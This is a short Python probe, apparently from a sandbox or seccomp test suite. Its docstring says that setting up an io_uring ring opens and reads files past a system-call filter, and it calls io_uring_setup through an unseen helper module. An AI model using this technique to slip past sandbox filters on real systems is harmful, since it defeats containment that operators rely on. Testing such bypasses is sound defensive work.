"""Success: a ring that opens and reads files past the filter of system calls."""

import ctypes

from kit import got, system_call, tries


def attack(a):
    parameters = (ctypes.c_uint32 * 30)()
    return tries(lambda: got(f"ring {system_call('io_uring_setup', 4, ctypes.byref(parameters))}"))
